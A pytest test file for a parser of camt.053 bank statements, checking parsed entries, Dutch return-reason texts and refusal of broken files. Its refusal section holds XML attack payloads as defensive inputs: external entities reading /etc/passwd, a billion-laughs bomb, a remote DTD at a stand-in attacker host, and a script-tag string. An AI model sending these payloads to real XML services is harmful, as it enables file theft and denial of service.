"""Reading camt.053 day statements: both versions give the same entries, hostile files are refused.

The sample statements in ``tests/data/camt/`` hold the same five entries in versions .02 and .08:
our batch-booked payment run ONTZ-R12 (three transfers), a transfer of run ONTZ-R11 returned with
reason AC04, an unrelated incoming credit, an incoming credit with EndToEndId NOTPROVIDED and bank
charges without details. Every refusal must be an ``InvalidStatementFile``, never a parser's own
exception, and a refused file gives no entries at all.
"""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger.money import AMOUNT_CENTS_MAX, Money
from ontzorgen.camt import (
    RETURN_REASONS,
    BankStatement,
    InvalidStatementFile,
    StatementEntry,
    explain_return_reason,
    parse_statement,
    parse_statements,
)
from ontzorgen.errors import OntzorgenError

DATA = Path(__file__).resolve().parent / "data" / "camt"
VERSIONS = ("camt.053.001.02", "camt.053.001.08")
ACCOUNT_IBAN = "NL36BNGH0285174662"
BOOKED_ON = date(2025, 3, 3)


def sample(version: str) -> bytes:
    return (DATA / f"statement.{version}.xml").read_bytes()


def template(version: str) -> str:
    return (DATA / f"amount_template.{version}.xml").read_text(encoding="utf-8")


def entry(
    cents: int,
    *,
    credit: bool,
    reference: str,
    end_to_end_id: str | None = None,
    return_reason: str | None = None,
    remittance: str | None = None,
    counterparty_name: str | None = None,
    counterparty_iban: str | None = None,
    value_on: date | None = BOOKED_ON,
) -> StatementEntry:
    return StatementEntry(
        amount=Money(cents),
        credit=credit,
        booked_on=BOOKED_ON,
        value_on=value_on,
        status="BOOK",
        end_to_end_id=end_to_end_id,
        return_reason=return_reason,
        remittance=remittance,
        counterparty_name=counterparty_name,
        counterparty_iban=counterparty_iban,
        account_servicer_reference=reference,
    )


EXPECTED_ENTRIES = (
    entry(
        65000,
        credit=False,
        reference="2025030300417001",
        end_to_end_id="ONTZ-R12-P000123",
        remittance="5000120003874511",
        counterparty_name="Woonstichting De Linie",
        counterparty_iban="NL36INGB0007654321",
    ),
    entry(
        8750,
        credit=False,
        reference="2025030300417001",
        end_to_end_id="ONTZ-R12-P000124",
        remittance="Termijnbedrag maart 2025 klantnummer 204518337",
        counterparty_name="Vattenfall Klantenservice N.V.",
        counterparty_iban="NL54RABO0312845617",
    ),
    entry(
        14235,
        credit=False,
        reference="2025030300417001",
        end_to_end_id="ONTZ-R12-P000125",
        remittance="Premie maart 2025 relatienummer 118273645",
        counterparty_name="Zilveren Kruis Zorgverzekeringen N.V.",
        counterparty_iban="NL72ABNA0595833210",
    ),
    entry(
        4500,
        credit=True,
        reference="2025030300417002",
        end_to_end_id="ONTZ-R11-P000098",
        return_reason="AC04",
        remittance="Termijn februari 2025 klantnummer 77120394",
        counterparty_name="Energiedirect Noord B.V.",
        counterparty_iban="NL16INGB0003817264",
    ),
    entry(
        125000,
        credit=True,
        reference="2025030300417003",
        remittance="Terugstorting teveel ontvangen subsidie 2024 dossier WZ-2024-118",
        counterparty_name="Stichting Welzijn Zuiderveen",
        counterparty_iban="NL94RABO0159483726",
    ),
    entry(
        2500,
        credit=True,
        reference="2025030300417004",
        remittance="Terugbetaling voorschot februari",
        counterparty_name="M. Tesfay",
        counterparty_iban="NL74SNSB0937461825",
        value_on=None,
    ),
    entry(1240, credit=False, reference="2025030300417005", value_on=date(2025, 3, 1)),
)


# -- reading the samples ------------------------------------------------------------------------


@pytest.mark.parametrize("version", VERSIONS)
def test_both_versions_read_every_transaction_with_exact_amounts(version: str) -> None:
    statement = parse_statement(sample(version))
    assert statement.entries == EXPECTED_ENTRIES


@pytest.mark.parametrize("version", VERSIONS)
def test_the_statement_header_names_the_account_and_the_message(version: str) -> None:
    statement = parse_statement(sample(version))
    assert statement.version == version
    assert statement.message_id == "BNG20250304061542000062"
    assert statement.statement_id == "0285174662-20250303"
    assert statement.account_iban == ACCOUNT_IBAN
    assert statement.created_at == datetime(2025, 3, 4, 5, 15, 42, tzinfo=UTC)


def test_a_creation_time_without_offset_is_read_as_amsterdam_time() -> None:
    # Version .02 writes 06:15:42 without an offset; in March Amsterdam is one hour ahead of UTC.
    created_at = parse_statement(sample("camt.053.001.02")).created_at
    assert created_at.utcoffset() == timedelta(hours=1)


@pytest.mark.parametrize("version", VERSIONS)
def test_a_batch_booked_debit_becomes_one_entry_per_transfer(version: str) -> None:
    entries = parse_statement(sample(version)).entries
    batch = [item for item in entries if item.account_servicer_reference == "2025030300417001"]
    assert [item.end_to_end_id for item in batch] == [
        "ONTZ-R12-P000123",
        "ONTZ-R12-P000124",
        "ONTZ-R12-P000125",
    ]
    assert [str(item.amount) for item in batch] == ["650.00", "87.50", "142.35"]
    assert sum(item.amount.cents for item in batch) == 87985
    assert not any(item.credit or item.is_return for item in batch)


@pytest.mark.parametrize("version", VERSIONS)
def test_a_returned_transfer_carries_its_reason_and_our_end_to_end_id(version: str) -> None:
    (returned,) = [item for item in parse_statement(sample(version)).entries if item.is_return]
    assert returned.end_to_end_id == "ONTZ-R11-P000098"
    assert returned.return_reason == "AC04"
    assert returned.amount == Money(4500)
    assert returned.credit
    # Version .02 keeps the original parties, .08 names the returning creditor as the debtor:
    # either way the counterparty is the creditor, never our own account.
    assert returned.counterparty_iban == "NL16INGB0003817264"
    assert "opgeheven" in explain_return_reason(returned.return_reason)


@pytest.mark.parametrize("version", VERSIONS)
def test_notprovided_and_a_missing_end_to_end_id_both_read_as_none(version: str) -> None:
    entries = parse_statement(sample(version)).entries
    incoming = [item for item in entries if item.credit and not item.is_return]
    assert [item.end_to_end_id for item in incoming] == [None, None]
    assert [item.remittance for item in incoming] == [
        "Terugstorting teveel ontvangen subsidie 2024 dossier WZ-2024-118",
        "Terugbetaling voorschot februari",
    ]


def test_a_booking_given_as_date_and_time_counts_by_its_own_date() -> None:
    # The .08 sample books the NOTPROVIDED credit at 2025-03-03T14:12:09+01:00.
    assert b"<DtTm>2025-03-03T14:12:09+01:00</DtTm>" in sample("camt.053.001.08")
    assert parse_statement(sample("camt.053.001.08")).entries[5].booked_on == BOOKED_ON


def test_a_credit_transfer_return_without_reason_code_is_a_return_with_reason_unspecified() -> None:
    data = template("camt.053.001.08").replace("{{AMOUNT}}", "12.00")
    without_reason = data.replace("<Rsn>\n                <Cd>MD07</Cd>\n              </Rsn>", "")
    assert without_reason != data
    (returned,) = parse_statement(without_reason.encode()).entries
    assert returned.is_return
    assert returned.return_reason == "MS03"


def test_a_pending_entry_is_read_but_left_out_of_the_balance_check() -> None:
    data = (
        sample("camt.053.001.08")
        .replace(
            b"<Cd>BOOK</Cd>\n        </Sts>\n        <BookgDt>\n          <Dt>2025-03-03</Dt>"
            b"\n        </BookgDt>\n        <ValDt>\n          <Dt>2025-03-01</Dt>",
            b"<Cd>PDNG</Cd>\n        </Sts>\n        <BookgDt>\n          <Dt>2025-03-03</Dt>"
            b"\n        </BookgDt>\n        <ValDt>\n          <Dt>2025-03-01</Dt>",
        )
        .replace(b"152767.92", b"152780.32")
    )
    assert data.count(b"PDNG") == 1
    assert parse_statement(data).entries[-1].status == "PDNG"


@pytest.mark.parametrize("encoding", ["UTF-16", "windows-1252"])
def test_a_statement_in_another_declared_encoding_reads_the_same(encoding: str) -> None:
    text = (
        sample("camt.053.001.02")
        .decode("utf-8")
        .replace('encoding="UTF-8"', f'encoding="{encoding}"')
    )
    assert parse_statement(text.encode(encoding)).entries == EXPECTED_ENTRIES


def test_a_file_with_two_statements_reads_with_parse_statements_only() -> None:
    data = sample("camt.053.001.02")
    start, end = data.index(b"<Stmt>"), data.index(b"</Stmt>") + len(b"</Stmt>")
    doubled = data[:end] + data[start:end] + data[end:]
    statements = parse_statements(doubled)
    assert len(statements) == 2
    assert statements[0] == statements[1]
    with pytest.raises(InvalidStatementFile, match="2 statements"):
        parse_statement(doubled)


# -- refusals -----------------------------------------------------------------------------------

DOCUMENT_02 = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"

#: Each entity expands to ten of the one before it: nine levels make a billion "lol"s.
_LAUGH_LEVELS = ['  <!ENTITY lol0 "lol">\n'] + [
    f'  <!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">\n' for level in range(1, 10)
]
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document [\n' + "".join(_LAUGH_LEVELS) + "]>\n"
    f'<Document xmlns="{DOCUMENT_02}"><BkToCstmrStmt><GrpHdr><MsgId>&lol9;</MsgId>'
    "</GrpHdr></BkToCstmrStmt></Document>\n"
).encode()

EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    f'<Document xmlns="{DOCUMENT_02}"><BkToCstmrStmt><GrpHdr><MsgId>&secret;</MsgId>'
    "</GrpHdr></BkToCstmrStmt></Document>\n"
).encode()

EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document SYSTEM "file:///etc/passwd">\n'
    f'<Document xmlns="{DOCUMENT_02}"/>\n'
).encode()

PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>\n'
    f'<Document xmlns="{DOCUMENT_02}"/>\n'
).encode()


def replaced(old: bytes, new: bytes, version: str = "camt.053.001.02") -> bytes:
    data = sample(version)
    assert old in data, old
    return data.replace(old, new, 1)


def without_first(element: bytes, version: str = "camt.053.001.02") -> bytes:
    """The sample without the first ``<element>...</element>`` (with its children)."""
    data = sample(version)
    start = data.index(b"<" + element + b">")
    end = data.index(b"</" + element + b">", start) + len(element) + 3
    return data[:start] + data[end:]


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "external entity": (lambda: EXTERNAL_ENTITY, "DOCTYPE"),
    "billion laughs": (lambda: BILLION_LAUGHS, "DOCTYPE"),
    "external DTD": (lambda: EXTERNAL_DTD, "DOCTYPE"),
    "external parameter entity": (lambda: PARAMETER_ENTITY, "DOCTYPE"),
    "internal DTD without entities": (
        lambda: replaced(b"<Document ", b"<!DOCTYPE Document []>\n<Document "),
        "DOCTYPE",
    ),
    "camt.052 account report": (
        lambda: sample("camt.053.001.08").replace(b"camt.053.001.08", b"camt.052.001.08"),
        "camt.052.001.08 file",
    ),
    "pain.001 payment file": (
        lambda: sample("camt.053.001.02").replace(b"camt.053.001.02", b"pain.001.001.09"),
        "pain.001.001.09 file",
    ),
    "camt.053 version .04": (
        lambda: sample("camt.053.001.02").replace(b"camt.053.001.02", b"camt.053.001.04"),
        ".04",
    ),
    "no namespace": (lambda: replaced(f' xmlns="{DOCUMENT_02}"'.encode(), b""), "namespace"),
    "other root element": (
        lambda: replaced(b"<Document ", b"<Doc ").replace(b"</Document>", b"</Doc>"),
        "root is 'Doc'",
    ),
    "empty bytes": (lambda: b"", "empty"),
    "only whitespace": (lambda: b" \n\t\n", "empty"),
    "not XML": (lambda: b"%PDF-1.7\n\x00\x01\x02\xff binary", "not well-formed"),
    "JSON": (lambda: b'{"entries": []}', "not well-formed"),
    "invalid UTF-8": (lambda: replaced(b"M. Tesfay", b"M. Tesf\xe9y"), "not well-formed"),
    "undefined entity": (lambda: replaced(b"M. Tesfay", b"M. &Tesfay;"), "not well-formed"),
    "unknown encoding": (
        lambda: replaced(b'encoding="UTF-8"', b'encoding="klingon"'),
        "unknown encoding",
    ),
    "element inside an identifier": (
        lambda: replaced(b"<EndToEndId>NOTPROVIDED<", b"<EndToEndId>NOT<b/>PROVIDED<"),
        "only text is allowed",
    ),
    "amount with three decimals": (lambda: replaced(b">650.00<", b">12.345<"), "'12.345'"),
    "amount in float notation": (lambda: replaced(b">87.50<", b">1e3<"), "'1e3'"),
    "negative amount": (lambda: replaced(b">25.00<", b">-25.00<"), "'-25.00'"),
    "amount with a comma": (lambda: replaced(b">1250.00<", b">1250,00<"), "'1250,00'"),
    "amount with a plus sign": (lambda: replaced(b">12.40<", b">+12.40<"), "'+12.40'"),
    "empty amount": (lambda: replaced(b">12.40<", b"><"), "''"),
    "amount of zero": (lambda: replaced(b">12.40<", b">0.00<"), "0.00"),
    "amount beyond the ledger": (
        lambda: replaced(b">12.40<", b">999999999999999.99<"),
        "larger than any amount",
    ),
    "amount in US dollars": (lambda: replaced(b'"EUR">142.35', b'"USD">142.35'), "'USD'"),
    "amount without currency": (
        lambda: replaced(b' Ccy="EUR">45.00', b">45.00"),
        "has no currency",
    ),
    "account in US dollars": (lambda: replaced(b"<Ccy>EUR</Ccy>", b"<Ccy>USD</Ccy>"), "'USD'"),
    "missing message id": (lambda: without_first(b"MsgId"), "no MsgId"),
    "missing creation time": (lambda: without_first(b"CreDtTm"), "no CreDtTm"),
    "missing statement": (lambda: without_first(b"Stmt"), "no statement"),
    "missing account IBAN": (lambda: without_first(b"Acct"), "no Acct"),
    "missing credit or debit": (
        lambda: replaced(b"<CdtDbtInd>DBIT</CdtDbtInd>\n        <Sts>", b"<Sts>"),
        "no CdtDbtInd",
    ),
    "missing status": (lambda: replaced(b"<Sts>BOOK</Sts>", b""), "no Sts"),
    "missing booking date": (lambda: without_first(b"BookgDt"), "booking date"),
    "status without code in version .08": (
        lambda: replaced(b"<Cd>BOOK</Cd>", b"", "camt.053.001.08"),
        "exactly one of Cd and Prtry",
    ),
    "credit or debit unknown": (
        lambda: replaced(
            b"<CdtDbtInd>DBIT</CdtDbtInd>\n        <Sts>", b"<CdtDbtInd>X</CdtDbtInd><Sts>"
        ),
        "neither CRDT nor DBIT",
    ),
    "impossible date": (lambda: replaced(b"<Dt>2025-03-01</Dt>", b"<Dt>2025-02-30</Dt>"), "date"),
    "date in another format": (
        lambda: replaced(b"<Dt>2025-03-01</Dt>", b"<Dt>20250301</Dt>"),
        "'20250301'",
    ),
    "invalid account IBAN": (
        lambda: replaced(b"<IBAN>NL36BNGH0285174662</IBAN>", b"<IBAN>NL37BNGH0285174662</IBAN>"),
        "is not valid: its check digits",
    ),
    "invalid counterparty IBAN": (
        lambda: replaced(b"NL74SNSB0937461825", b"NL74SNSB0937461826"),
        "is not valid: its check digits",
    ),
    "end-to-end id longer than 35 characters": (
        lambda: replaced(
            b"ONTZ-R11-P000098</EndToEndId>", b"ONTZ-R11-P000098" * 3 + b"</EndToEndId>"
        ),
        "more than the 35",
    ),
    "two end-to-end ids in one transaction": (
        lambda: replaced(
            b"<EndToEndId>NOTPROVIDED</EndToEndId>",
            b"<EndToEndId>NOTPROVIDED</EndToEndId><EndToEndId>ONTZ-R12-P000124</EndToEndId>",
        ),
        "appears 2 times",
    ),
    "two amounts in one entry": (
        lambda: replaced(b'<Amt Ccy="EUR">12.40</Amt>', b'<Amt Ccy="EUR">12.40</Amt>' * 2),
        "appears 2 times",
    ),
    "return reason that is no code": (
        lambda: replaced(b"<Cd>AC04</Cd>", b"<Cd>ac 4</Cd>"),
        "not an ISO reason code",
    ),
    "batch with a transaction left out": (
        lambda: replaced(b"<NbOfTxs>3</NbOfTxs>", b"<NbOfTxs>4</NbOfTxs>"),
        "holds '4' transactions but lists 3",
    ),
    "transactions that do not add up to the entry": (
        lambda: replaced(b'<Amt Ccy="EUR">879.85</Amt>', b'<Amt Ccy="EUR">879.86</Amt>').replace(
            b"152767.92", b"152767.91"
        ),
        "add up to 879.85",
    ),
    "batch transaction without amount": (
        lambda: replaced(
            b'<Amt Ccy="EUR">87.50</Amt>\n            <CdtDbtInd>DBIT</CdtDbtInd>',
            b"",
            "camt.053.001.08",
        ),
        "have no amount",
    ),
    "transaction that credits within a debit": (
        lambda: replaced(
            b">87.50</Amt>\n            <CdtDbtInd>DBIT<",
            b">87.50</Amt>\n            <CdtDbtInd>CRDT<",
            "camt.053.001.08",
        ),
        "differs from its entry",
    ),
    "transaction amount and amount details that disagree": (
        lambda: replaced(
            b'<TxAmt>\n                <Amt Ccy="EUR">650.00',
            b'<TxAmt>\n                <Amt Ccy="EUR">650.01',
            "camt.053.001.08",
        ),
        "differs from its AmtDtls",
    ),
    "an entry left out": (lambda: without_first(b"Ntry"), "closing balance"),
    "a closing balance that does not match": (
        lambda: replaced(b"152767.92", b"152767.93"),
        "closing balance",
    ),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_hostile_or_broken_file_is_refused_with_a_named_error(name: str) -> None:
    make, expected_fragment = REFUSED[name]
    with pytest.raises(InvalidStatementFile) as refused:
        parse_statement(make())
    assert expected_fragment in str(refused.value)
    assert isinstance(refused.value, OntzorgenError)


@pytest.mark.parametrize("fraction", [0.05, 0.3, 0.5, 0.77, 0.99])
@pytest.mark.parametrize("version", VERSIONS)
def test_a_file_cut_off_anywhere_is_refused(version: str, fraction: float) -> None:
    data = sample(version).rstrip()
    with pytest.raises(InvalidStatementFile, match="cut off"):
        parse_statement(data[: int(len(data) * fraction)])


def test_a_file_larger_than_the_limit_is_refused_before_parsing() -> None:
    data = sample("camt.053.001.02")
    assert parse_statement(data, size_max_bytes=len(data)).entries == EXPECTED_ENTRIES
    with pytest.raises(InvalidStatementFile, match=f"more than the {len(data) - 1} bytes"):
        parse_statement(data, size_max_bytes=len(data) - 1)
    # Even a billion-laughs file is refused by size alone when it is too large.
    with pytest.raises(InvalidStatementFile, match="more than the 100 bytes"):
        parse_statement(BILLION_LAUGHS, size_max_bytes=100)


def test_entity_expansion_is_refused_quickly() -> None:
    started = time.perf_counter()
    with pytest.raises(InvalidStatementFile):
        parse_statement(BILLION_LAUGHS)
    assert time.perf_counter() - started < 1.0


def test_a_refusal_names_the_line_of_the_offending_element() -> None:
    data = replaced(b">650.00<", b">12.345<")
    line = data[: data.index(b">12.345<")].count(b"\n") + 1
    with pytest.raises(InvalidStatementFile) as refused:
        parse_statement(data)
    assert refused.value.line == line
    assert str(refused.value).startswith(f"line {line}: ")
    assert "Download the statement from the bank again" in str(refused.value)


def test_a_refused_value_is_shown_shortened() -> None:
    data = replaced(b">12.40<", b">" + b"9" * 500 + b"<")
    with pytest.raises(InvalidStatementFile) as refused:
        parse_statement(data)
    assert "(and 460 more characters)" in str(refused.value)
    assert len(str(refused.value)) < 300


# -- properties ---------------------------------------------------------------------------------


@st.composite
def amount_texts(draw: st.DrawFn) -> tuple[int, str]:
    """Cents and one of the ways a bank may write them: 650.00, 650.0 or 650 for whole euros."""
    cents = draw(st.integers(min_value=1, max_value=AMOUNT_CENTS_MAX))
    whole, fraction = divmod(cents, 100)
    spellings = [f"{whole}.{fraction:02d}"]
    if fraction % 10 == 0:
        spellings.append(f"{whole}.{fraction // 10}")
    if fraction == 0:
        spellings.append(str(whole))
    return cents, draw(st.sampled_from(spellings))


@given(amount=amount_texts(), version=st.sampled_from(VERSIONS))
def test_an_amount_written_into_a_statement_reads_back_as_the_same_cents(
    amount: tuple[int, str], version: str
) -> None:
    cents, text = amount
    statement = parse_statement(template(version).replace("{{AMOUNT}}", text).encode())
    (only,) = statement.entries
    assert only.amount == Money(cents)
    assert only.is_return
    assert only.return_reason == "MD07"


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=2000))
def test_arbitrary_bytes_are_read_or_refused_but_never_crash_the_reader(data: bytes) -> None:
    with contextlib.suppress(InvalidStatementFile):
        parse_statement(data)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    version=st.sampled_from(VERSIONS),
    start_fraction=st.floats(min_value=0, max_value=1),
    removed_count=st.integers(min_value=0, max_value=40),
    inserted=st.binary(max_size=12),
)
def test_a_damaged_statement_is_read_completely_or_refused_whole(
    version: str, start_fraction: float, removed_count: int, inserted: bytes
) -> None:
    data = sample(version)
    start = int(start_fraction * len(data))
    damaged = data[:start] + inserted + data[start + removed_count :]
    try:
        statement = parse_statement(damaged)
    except InvalidStatementFile:
        return
    assert isinstance(statement, BankStatement)
    # Damage that leaves a readable file (a changed name, say) must not break the value rules.
    assert all(item.amount.is_positive() for item in statement.entries)


# -- return reasons -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "fragment"),
    [
        ("AC01", "klopt niet"),
        ("AC04", "opgeheven"),
        ("AC06", "geblokkeerd"),
        ("AG01", "spaarrekening"),
        ("AG02", "fout"),
        ("AM05", "dubbel"),
        ("BE04", "adres"),
        ("MD07", "overleden"),
        ("MS03", "geen reden"),
        ("RR03", "naam of het adres"),
        ("RR04", "regels"),
        ("FOCR", "terugroepverzoek"),
    ],
)
def test_every_return_reason_a_coach_meets_is_explained_in_plain_dutch(
    code: str, fragment: str
) -> None:
    assert code in RETURN_REASONS
    assert fragment in explain_return_reason(code)
    assert explain_return_reason(f" {code.lower()} ") == RETURN_REASONS[code]


def test_an_explanation_stays_short_enough_for_a_coach_to_read() -> None:
    for code, explanation in RETURN_REASONS.items():
        sentences = [part for part in explanation.split(". ") if part]
        assert len(explanation) <= 200, code
        assert all(len(sentence.split()) <= 20 for sentence in sentences), code


def test_an_unknown_or_missing_return_reason_still_gets_an_explanation() -> None:
    assert explain_return_reason(None) == RETURN_REASONS["MS03"]
    assert explain_return_reason("  ") == RETURN_REASONS["MS03"]
    assert "ZZ99" in explain_return_reason("ZZ99")
    # Text that is no code is not repeated: it may come from a hostile file.
    hostile = explain_return_reason("<script>alert(1)</script>")
    assert "script" not in hostile
    assert "kennen" in hostile


def test_refusals_are_ontzorgen_errors() -> None:
    assert issubclass(InvalidStatementFile, OntzorgenError)
    assert InvalidStatementFile.__doc__


def test_created_at_is_always_aware() -> None:
    for version in VERSIONS:
        created_at = parse_statement(sample(version)).created_at
        assert created_at.tzinfo is not None
        assert created_at.astimezone(UTC).hour == 5
